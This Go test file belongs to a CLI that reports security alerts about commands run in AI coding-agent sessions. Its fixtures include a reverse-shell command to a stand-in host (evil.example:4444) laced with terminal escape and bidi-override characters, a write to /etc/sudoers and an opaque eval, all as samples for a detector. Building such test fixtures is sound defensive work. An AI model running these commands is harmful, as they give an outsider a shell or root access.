package alerts

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/component/componenttest"
	"go.opentelemetry.io/collector/config/configoptional"
	"go.opentelemetry.io/collector/exporter"
	"go.opentelemetry.io/collector/exporter/exportertest"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/plog"
	"go.opentelemetry.io/collector/receiver/receivertest"

	"github.com/agent-telemetry/agent-telemetry/exporter/auditlogexporter"
	"github.com/agent-telemetry/agent-telemetry/internal/cli/cliio"
	"github.com/agent-telemetry/agent-telemetry/internal/securityalert"
	"github.com/agent-telemetry/agent-telemetry/internal/semconv"
	"github.com/agent-telemetry/agent-telemetry/internal/statedir"
	"github.com/agent-telemetry/agent-telemetry/receiver/claudehookreceiver"
)

// Days are those of the local time zone: it is one for all tests.
func TestMain(m *testing.M) {
	time.Local = time.UTC
	os.Exit(m.Run())
}

var noon = time.Date(2026, 1, 15, 12, 0, 0, 0, time.UTC)

const (
	eventID   = "019a0a5d-ac96-774b-bcce-b302099a8057"
	sessionID = "5e551011-aaaa"
)

// sample is what rules found in two sessions, with text that would like to be
// obeyed by a terminal.
func sample() []securityalert.Alert {
	base := securityalert.Alert{
		Severity: semconv.SeverityHigh, RiskScore: 70, RuleID: "r-1", Rule: "reverse_shell", Title: "A shell for somebody elsewhere",
		Category: "network_activity", RuleVersion: "2", Ruleset: semconv.RulesetDefault, Evidence: []string{"bash -i to evil.example:4444"},
		Attack: []string{"T1059.004", "T1071.001"}, Atlas: []string{"AML.T0053"}, Response: "Stop the session. Look at what the shell did.",
		EventID: eventID, EventType: semconv.EventCommandExecution, EventSeq: 7, Session: sessionID, Project: "/home/dev/shop", ProjectName: "shop",
		Tool: "Bash", ToolCallID: "toolu_1", Command: "bash -i >& /dev/tcp/evil.example/4444 0>&1 \x1b[31m\u202e", Time: noon,
	}
	other := base
	other.Severity, other.RiskScore, other.RuleID, other.Rule, other.Title = semconv.SeverityCritical, 95, "r-2", "sudoers_write", "Writes the list of who may be root"
	other.EventID, other.Command, other.FilePath, other.Tool = "019a0a5d-ac96-774b-bcce-b302099a8058", "", "/etc/sudoers", "Write"
	other.Time, other.Session, other.Project, other.ProjectName, other.Suppressed = noon.Add(-26*time.Hour), "other", "/home/dev/cart", "cart", 3
	low := base
	low.Severity, low.RiskScore, low.RuleID, low.Rule, low.EventID, low.Command = semconv.SeverityLow, 10, "r-3", "opaque_command", "019a0a5d-ac96-774b-bcce-b302099a8059", `eval "$X"`
	low.Time = noon.Add(-8 * 24 * time.Hour)
	all := []securityalert.Alert{low, other, base}
	for i := range all {
		all[i].ID = securityalert.ID(all[i].RuleID, all[i].EventID, "")
	}
	return all
}

// logs are the records of alerts, and of the event of the last.
func logs(all []securityalert.Alert) plog.Logs {
	ld := plog.NewLogs()
	rl := ld.ResourceLogs().AppendEmpty()
	rl.Resource().Attributes().PutStr(semconv.ServiceName, semconv.ServiceNameValue)
	lr := rl.ScopeLogs().AppendEmpty().LogRecords().AppendEmpty()
	lr.SetTimestamp(pcommon.NewTimestampFromTime(noon))
	if len(all) > 0 {
		lr.SetTimestamp(pcommon.NewTimestampFromTime(all[len(all)-1].Time))
	}
	lr.Attributes().PutStr(semconv.EventID, eventID)
	lr.Attributes().PutStr(semconv.EventType, semconv.EventCommandExecution)
	lr.Attributes().PutStr(semconv.SessionID, sessionID)
	body := lr.Body().SetEmptyMap()
	body.PutStr(semconv.BodyEventType, semconv.EventCommandExecution)
	body.PutEmptyMap(semconv.BodyRawInput).PutStr("tool_name", "Bash")
	for _, a := range all {
		securityalert.Append(ld, a, securityalert.Origin{Resource: rl.Resource()}, a.Time)
	}
	return ld
}

// stage is a state directory with an audit log.
type stage struct {
	t     *testing.T
	home  statedir.Dir
	audit exporter.Logs
	now   func() time.Time
	// inAgent has commands run in a shell of Claude Code.
	inAgent bool
}

func newStage(t *testing.T) *stage {
	t.Helper()
	t.Setenv(semconv.EnvLokiURL, "http://127.0.0.1:1") // nothing listens there
	s := &stage{t: t, home: statedir.Dir(filepath.Join(t.TempDir(), "state")), now: func() time.Time { return noon.Add(time.Hour) }}
	require.NoError(t, s.home.Create())
	f := auditlogexporter.NewFactory()
	cfg := f.CreateDefaultConfig().(*auditlogexporter.Config)
	cfg.Directory = s.home.Audit()
	var err error
	s.audit, err = f.CreateLogs(t.Context(), exportertest.NewNopSettings(f.Type()), cfg)
	require.NoError(t, err)
	require.NoError(t, s.audit.Start(t.Context(), componenttest.NewNopHost()))
	t.Cleanup(func() { require.NoError(t, s.audit.Shutdown(context.Background())) })
	return s
}

func (s *stage) record(ld plog.Logs) {
	s.t.Helper()
	require.NoError(s.t, s.audit.ConsumeLogs(s.t.Context(), ld))
}

// collector takes records at the socket, as the real one does.
func (s *stage) collector() {
	s.t.Helper()
	f := claudehookreceiver.NewFactory()
	cfg := f.CreateDefaultConfig().(*claudehookreceiver.Config)
	cfg.StateDirectory = string(s.home)
	cfg.TCP = configoptional.None[claudehookreceiver.TCPConfig]()
	r, err := f.CreateLogs(s.t.Context(), receivertest.NewNopSettings(f.Type()), cfg, s.audit)
	require.NoError(s.t, err)
	require.NoError(s.t, r.Start(s.t.Context(), componenttest.NewNopHost()))
	s.t.Cleanup(func() { require.NoError(s.t, r.Shutdown(context.Background())) })
}

// buffer may be written and read at once.
type buffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (b *buffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.Write(p)
}

func (b *buffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.String()
}

// run runs a command below alerts, an hour after noon.
func (s *stage) run(args ...string) (out, errOut string, err error) {
	s.t.Helper()
	var o, e buffer
	err = s.runIn(s.t.Context(), &o, &e, args...)
	return o.String(), e.String(), err
}

func (s *stage) runIn(ctx context.Context, out, errOut *buffer, args ...string) error {
	f := &cliio.Factory{IO: &cliio.IO{In: strings.NewReader(""), Out: out, Err: errOut}, HomeFlag: string(s.home)}
	cmd := newAll(f, s.now, func(context.Context) bool { return s.inAgent })
	cmd.SetArgs(args)
	cmd.SetOut(out)
	cmd.SetErr(errOut)
	cmd.SilenceErrors, cmd.SilenceUsage = true, true
	return cmd.ExecuteContext(ctx)
}

func (s *stage) ok(args ...string) string {
	s.t.Helper()
	out, errOut, err := s.run(args...)
	require.NoError(s.t, err, errOut)
	return out
}

func (s *stage) fails(code int, args ...string) error {
	s.t.Helper()
	_, _, err := s.run(args...)
	require.Error(s.t, err)
	var exit *cliio.ExitError
	if errors.As(err, &exit) {
		require.Equal(s.t, code, exit.Code)
	} else {
		require.Equal(s.t, code, 1)
	}
	return err
}
